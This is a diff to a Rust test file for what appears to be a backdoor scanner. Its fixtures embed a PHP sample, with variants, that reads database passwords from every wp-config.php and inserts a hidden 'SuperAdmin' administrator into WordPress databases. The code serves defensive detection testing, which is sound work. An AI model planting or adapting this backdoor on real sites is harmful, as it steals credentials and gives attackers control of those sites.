@@ -336,8 +336,8 @@ fn administrators_added_to_every_site_whose_settings_are_parsed_are_a_backdoor()
     let adder = r#"<?php $u = "SuperAdmin"; $p = "x";
         foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator('.')) as $f) {
           if (basename($f) == 'wp-config.php') { $c = file_get_contents($f);
-            preg_match("/DB_PASSWORD['"],\s*['"]([^'"]+)['"]/", $c, $pw);
-            preg_match("/DB_NAME['"],\s*['"]([^'"]+)['"]/", $c, $db);
+            preg_match("/DB_PASSWORD',\s*'([^']+)'/", $c, $pw);
+            preg_match("/DB_NAME',\s*'([^']+)'/", $c, $db);
             $pdo = new PDO("mysql:host=localhost;dbname={$db[1]}", 'u', $pw[1]);
             $pdo->prepare("INSERT INTO wp_users (user_login, user_pass) VALUES (?, ?)")->execute([$u, md5($p)]);
             $pdo->prepare("INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (?, ?, ?)")
@@ -355,6 +355,26 @@ fn administrators_added_to_every_site_whose_settings_are_parsed_are_a_backdoor()
             "SELECT meta_value FROM wp_usermeta",
         );
     assert!(found(&backup).is_empty(), "{:?}", found(&backup));
+    // Regressions (review): the settings parsed by a generic pattern and read with `fread`;
+    // and a migration's installer, which writes the settings file back with the password it
+    // was sent before making the site's administrator.
+    let generic = adder
+        .replace("$c = file_get_contents($f);", "$c = fread(fopen($f, 'r'), filesize($f));")
+        .replace("/DB_PASSWORD'", "/DB_USER'")
+        .replace(
+            ", $c, $pw);",
+            r#", $c, $user); preg_match_all("/define\(\s*'(\w+)'\s*,\s*'([^']*)'/", $c, $m); $cfg = array_combine($m[1], $m[2]); $pw = [0, $cfg['DB_PASSWORD']];"#,
+        );
+    assert!(
+        generic.contains("fread(") && generic.contains("$cfg['DB_PASSWORD']") && !generic.contains("/DB_PASSWORD"),
+        "{generic}"
+    );
+    let only_fread = adder.replace("$c = file_get_contents($f);", "$c = fread(fopen($f, 'r'), filesize($f));");
+    assert_eq!(found(&only_fread), [(Why::AdminBackdoor, Danger::High)], "fread");
+    assert_eq!(found(&generic), [(Why::AdminBackdoor, Danger::High)]);
+    let installer = adder
+        .replace("$c = file_get_contents($f);", "$c = file_get_contents($f); file_put_contents('wp-config.php', $c);");
+    assert!(found(&installer).is_empty(), "{:?}", found(&installer));
 }
 
 #[test]
